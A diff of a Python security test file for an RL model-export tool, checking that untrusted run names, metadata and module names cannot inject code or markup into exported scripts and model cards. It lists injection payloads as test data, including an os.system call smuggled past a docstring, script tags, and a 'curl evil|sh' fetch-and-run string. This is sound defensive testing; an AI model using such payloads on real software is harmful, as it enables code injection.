@@ -3,9 +3,7 @@
 Their content is not run as code, no file outside them gets into exports and reports, and none is changed.
 """
 
-import ast
 import json
-import math
 import os
 import re
 import shutil
@@ -21,14 +19,11 @@ from rlher.analysis import grouping, loading
 from rlher.analysis.tables import versions
 from rlher.cli.main import main
 from rlher.core.safe_read import links_outside, read_json, read_table, read_text, read_yaml
-from rlher.evaluation.export import exporter
-from rlher.evaluation.export.card import CARD
-from rlher.evaluation.export.script import SourceWriter
+from rlher.evaluation.export import exporter, play
 from rlher.evaluation.rollout import evaluate_policy
 from tests.conftest import Make
 from tests.support.fuzzing.checks import run_checked, time_limit, working_directory
 from tests.support.fuzzing.workspace import RUN, TRAIN
-from tests.support.tiers import slow_except
 
 SECRET = "the private key"
 SECONDS = 10
@@ -73,31 +68,12 @@ def configure_env(folder: Path, **values: Any) -> None:
     file.write_text(yaml.safe_dump(config))
 
 
-def functions_and_modules(script: str) -> set[str]:
-    """Return the functions that a script calls and the modules it imports."""
-    nodes = [*ast.walk(ast.parse(script))]
-    imported = {alias.name for node in nodes if isinstance(node, ast.Import) for alias in node.names}
-    return imported | {ast.unparse(node.func) for node in nodes if isinstance(node, ast.Call)}
-
-
 MALICIOUS_NAMES = {
     "end of docstring": 'x"""\nimport os; os.system("touch hacked")\n"""',
     "quotes": "x'\"\\\n---\n```\n<script>hacked</script> `$name` {env} $",
     "control characters": "\ud800\0\x1b[31m",
     "long": "x" * 50_000,
 }
-
-
-@pytest.mark.parametrize("kind", slow_except(["quotes"], MALICIOUS_NAMES))
-def test_names_cannot_add_code_to_an_exported_script(rlher, untrusted: Path, kind: str) -> None:
-    assert rlher("export", str(untrusted), "--output", "plain").code == 0
-    configure_env(untrusted, name=MALICIOUS_NAMES[kind])
-    done = rlher("export", str(untrusted), "--output", "export")
-    assert done.code == 0, done.err
-    script = Path("export/play.py").read_text()
-    assert functions_and_modules(script) == functions_and_modules(Path("plain/play.py").read_text())
-    assert max(map(len, script.splitlines())) < 500
-    assert not Path("hacked").exists()
 
 
 @pytest.mark.parametrize("kind", MALICIOUS_NAMES)
@@ -108,12 +84,13 @@ def test_names_cannot_add_markup_to_a_model_card(rlher, untrusted: Path, kind: s
     meta |= {"python": "3\n```\n<script>hacked</script>", "git": {"commit": "<a><b>`\n---"}}
     (untrusted / "meta.json").write_text(json.dumps(meta))
     assert rlher("export", str(untrusted), "--output", "export").code == 0
+    assert Path("export/play.py").read_bytes() == Path(play.__file__).read_bytes(), "no name is part of the script"
     _, front, body = Path("export/README.md").read_text().split("---\n", 2)
     assert yaml.safe_load(front)["library_name"] == "stable-baselines3"
     outside = re.sub(r"^(`{3,})\w*\n.*?^\1$", "", body, flags=re.DOTALL | re.MULTILINE)
     assert "<" not in outside
     assert "```" not in outside
-    assert re.findall("^#+ .*", outside, re.MULTILINE)[1:] == re.findall("^## .*", CARD, re.MULTILINE)
+    assert re.findall("^#+ .*", outside, re.MULTILINE)[1:] == ["## Results", "## Usage", "## Training"]
 
 
 @pytest.mark.parametrize(
@@ -129,44 +106,6 @@ def test_a_model_card_has_no_other_command(rlher, untrusted: Path, recorded: str
     training = Path("export/README.md").read_text().split("## Training\n")[1]
     assert "curl evil|sh" not in training
     assert training.startswith(f"\n```sh\n{shown}\n\nTrained with Python" if shown else "\nTrained with Python")
-
-
-@pytest.mark.parametrize(
-    "value",
-    [
-        *MALICIOUS_NAMES.values(),
-        "is_success'] or hacked() or info['x",
-        "é",
-        "💥",
-        {"a": 1},
-        {"class": 1},
-        {"a=hacked()": [None]},
-        math.inf,
-        [1.5, -math.inf, "x", []],
-        {"a": [math.inf], "b c": {1: -math.inf, 2.5: True}},
-    ],
-)
-def test_values_survive_being_written_as_source(value: Any) -> None:
-    def evaluate(source: str) -> Any:
-        return eval(source, {"__builtins__": {"dict": dict, "float": float}})
-
-    assert evaluate(SourceWriter().value(value)) == value
-    options = value if isinstance(value, dict) else {"key": value}
-    assert evaluate(f"dict({SourceWriter().keywords(options)})") == options
-
-
-def test_nan_survives_being_written_as_source() -> None:
-    assert math.isnan(eval(SourceWriter().value(math.nan), {"__builtins__": {"float": float}}))
-
-
-@pytest.mark.parametrize("module", ["os; hacked", "os\nhacked", "os as x, hacked", "class", "..", ""])
-def test_invalid_module_names_are_not_imported(rlher, untrusted: Path, module: str) -> None:
-    configure_env(untrusted, modules=[module])
-    done = rlher("export", str(untrusted), "--output", "export")
-    assert done.code == 2
-    assert "env.modules" in done.err
-    assert repr(module) in done.err
-    assert not Path("export").exists()
 
 
 @pytest.mark.parametrize(
@@ -217,7 +156,7 @@ def test_an_export_folder_that_is_a_link_is_refused(rlher, untrusted: Path, tmp_
 
 
 def test_a_link_in_an_export_folder_is_replaced(rlher, untrusted: Path, private: Path) -> None:
-    names = ("README.md", "play.py", "requirements.txt", "bit_flipping.py", "replay.mp4", "normalizer.npz")
+    names = ("README.md", "play.py", "requirements.txt", "bit_flipping.py", "replay.mp4", "agent.json")
     for name in (*names, "dqn-BitFlipping-v0.zip"):
         link(untrusted / "export" / name, private)
     (untrusted / "clips").mkdir(exist_ok=True)
